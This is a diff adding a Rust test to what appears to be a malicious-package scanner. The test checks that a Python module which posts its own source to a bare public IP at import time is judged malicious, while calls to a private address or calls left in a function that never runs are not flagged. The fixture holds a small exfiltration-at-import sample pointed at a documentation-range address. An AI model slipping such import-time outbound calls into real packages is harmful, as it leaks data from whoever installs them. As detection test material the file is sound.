@@ -545,3 +545,21 @@ fn look_alike_letters_in_identifiers_are_read_as_python_reads_them() {
     );
     assert_eq!(r.verdict, Verdict::Clean);
 }
+
+#[test]
+fn a_request_to_a_raw_public_address_at_import_is_malicious() {
+    // solana-charts: the importing script's source, posted to a bare IP.
+    // (203.0.113.0/24 is TEST-NET-3: documentation only, never routed.)
+    let module = "import urllib.request, json\n\ndef post(url, data):\n    req = urllib.request.Request(url, data=json.dumps(data).encode(), method='POST')\n    return urllib.request.urlopen(req)\n\ndef register():\n    post('http://203.0.113.7:3000/nodes/register', {'j': open(__file__).read()})\n\nregister()\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // A private address is a lab's own service; a public one named only in
+    // a function nobody calls at import is run-time configuration.
+    let lab = "import urllib.request\nurllib.request.urlopen('http://10.0.0.7:8080/health')\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", lab)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    let later =
+        "import urllib.request\n\ndef ping():\n    urllib.request.urlopen('http://203.0.113.7/')\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", later)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
